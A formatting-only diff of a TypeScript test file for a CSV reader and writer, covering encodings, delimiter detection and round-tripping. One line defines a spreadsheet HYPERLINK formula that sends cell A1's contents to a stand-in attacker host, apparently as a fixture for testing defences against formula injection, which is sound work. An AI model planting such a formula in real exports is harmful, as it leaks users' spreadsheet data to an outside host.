@@ -1,7 +1,8 @@
 import { expect, test } from "vitest";
 import { decodeCsv, detectDelimiter, readCsv, writeCsv } from "./csv";
 
-const windows1252 = (text: string) => Uint8Array.from([...text].map((char) => (char === "é" ? 0xe9 : char === "è" ? 0xe8 : char.charCodeAt(0))));
+const windows1252 = (text: string) =>
+  Uint8Array.from([...text].map((char) => (char === "é" ? 0xe9 : char === "è" ? 0xe8 : char.charCodeAt(0))));
 
 test("UTF-8 with a BOM is read as UTF-8, the BOM dropped", () => {
   const bytes = new TextEncoder().encode("\ufeffname;room\nposte;Salle polyvalente é\n");
@@ -15,7 +16,12 @@ test("Windows-1252 (an é as one byte) is recognised and decoded", () => {
 });
 
 test.each([
-  ["name;class;room\n", ";"], ["name,class,room\n", ","], ["name\tclass\n", "\t"], ['"a;b",c,d\n', ","], ["name\n", ";"], ["a;b,c\n", ";"],
+  ["name;class;room\n", ";"],
+  ["name,class,room\n", ","],
+  ["name\tclass\n", "\t"],
+  ['"a;b",c,d\n', ","],
+  ["name\n", ";"],
+  ["a;b,c\n", ";"],
 ])("delimiter of %j is %j", (text, expected) => {
   expect(detectDelimiter(text)).toBe(expected);
 });
@@ -23,14 +29,24 @@ test.each([
 test("rows keep their line numbers; empty lines are skipped; quoted commas stay in their cell", () => {
   const table = readCsv(new TextEncoder().encode('name,model\npc1,"OptiPlex 3020, SFF"\n\npc2,HP\n'));
   expect(table.delimiter).toBe(",");
-  expect(table.rows).toEqual([{ line: 2, cells: ["pc1", "OptiPlex 3020, SFF"] }, { line: 4, cells: ["pc2", "HP"] }]);
+  expect(table.rows).toEqual([
+    { line: 2, cells: ["pc1", "OptiPlex 3020, SFF"] },
+    { line: 4, cells: ["pc2", "HP"] },
+  ]);
 });
 
 test("what we write reads back the same", () => {
-  const rows = [["name", "notes"], ["pc;1", 'dit "neuf"'], ["pc2", null]];
+  const rows = [
+    ["name", "notes"],
+    ["pc;1", 'dit "neuf"'],
+    ["pc2", null],
+  ];
   const written = writeCsv(rows);
   expect(written.startsWith("\ufeffname;notes\r\n")).toBe(true);
-  expect(readCsv(new TextEncoder().encode(written)).rows.map((row) => row.cells)).toEqual([["pc;1", 'dit "neuf"'], ["pc2", ""]]);
+  expect(readCsv(new TextEncoder().encode(written)).rows.map((row) => row.cells)).toEqual([
+    ["pc;1", 'dit "neuf"'],
+    ["pc2", ""],
+  ]);
 });
 
 const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")';
@@ -62,5 +78,8 @@ test("numbers are written as numbers, a negative one included", () => {
 
 test("a file a person wrote keeps its texts, but loses the ' a spreadsheet user put before a formula character", () => {
   const table = readCsv(new TextEncoder().encode("name;notes\n'-12;l'écran\nposte;'@note\n"));
-  expect(table.rows.map((row) => row.cells)).toEqual([["-12", "l'écran"], ["poste", "@note"]]);
+  expect(table.rows.map((row) => row.cells)).toEqual([
+    ["-12", "l'écran"],
+    ["poste", "@note"],
+  ]);
 });
